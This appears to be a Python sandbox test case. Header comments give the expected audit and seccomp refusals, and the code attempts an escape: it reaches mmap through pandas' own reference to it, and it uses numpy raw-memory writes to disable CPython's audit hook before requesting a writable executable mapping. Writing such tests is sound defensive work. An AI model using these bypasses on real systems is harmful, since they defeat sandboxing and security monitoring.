# tries: writable and executable memory from a file mapping, the way around 53's anonymous one:
#        first through the mmap module pandas.io.common keeps its own reference to (the blocklist
#        purged sys.modules, not pandas' name for it); then, the audit hook unhooked, a private
#        PROT_READ|WRITE|EXEC mapping of a library file every run may read, whose copy-on-write
#        pages would run whatever is written into them.
# must record: the hook refuses mmap.__new__ with its rule; the kernel filter refuses the
#              writable executable file mapping; every signal is 1 only if nothing was granted.
# expect-status: ok
# expect-event: mmap.__new__ | no raw memory mappings
# expect-event: seccomp.mmap | no executable memory
# expect-signal-sum: 300
# --- reach-around: unhook the C audit hook with numpy raw memory ------------------------------
import struct, numpy as _np
def _mem(addr, n=1, t='<u8'):
    class _I: pass
    o = _I(); o.__array_interface__ = {'shape': (n,), 'typestr': t, 'data': (addr, False), 'version': 3}
    return _np.asarray(o)
def _dynsyms(path, want):
    b = open(path, 'rb').read()
    shoff, = struct.unpack_from('<Q', b, 0x28); shentsize, shnum = struct.unpack_from('<HH', b, 0x3a)
    secs = [struct.unpack_from('<IIQQQQIIQQ', b, shoff + i * shentsize) for i in range(shnum)]
    out = {}
    for s in secs:
        if s[1] != 11:  # SHT_DYNSYM
            continue
        strtab = secs[s[6]]
        for off in range(s[4], s[4] + s[5], 24):
            name_i, info, other, shndx, value, size = struct.unpack_from('<IBBHQQ', b, off)
            end = b.index(b'\0', strtab[4] + name_i)
            nm = b[strtab[4] + name_i:end].decode()
            if nm in want:
                out[nm] = value
    return out
def unhook():
    s = _dynsyms('/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0', {'_PyRuntime', 'PyLong_Type'})
    base = id(int) - s['PyLong_Type']
    _mem(base + s['_PyRuntime'] + 656)[0] = 0   # _PyRuntime.audit_hook_head = NULL (3.11)
# ----------------------------------------------------------------------------------------------
import os
import pandas.io.common as _pc
LIB = '/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0'
def wx(mm):
    fd = os.open(LIB, os.O_RDONLY)
    try:
        mm.mmap(fd, 4096, flags=mm.MAP_PRIVATE, prot=mm.PROT_READ | mm.PROT_WRITE | mm.PROT_EXEC)
        return 1
    except (OSError, PermissionError):
        return 0
    finally:
        os.close(fd)
def signals(df):
    granted = wx(_pc.mmap)      # the hook's turn: mmap.__new__
    unhook()
    granted += wx(_pc.mmap)     # the kernel's turn: mmap(PROT_WRITE | PROT_EXEC) of a file
    print("granted", granted)
    return [0 if granted else 1] * len(df)
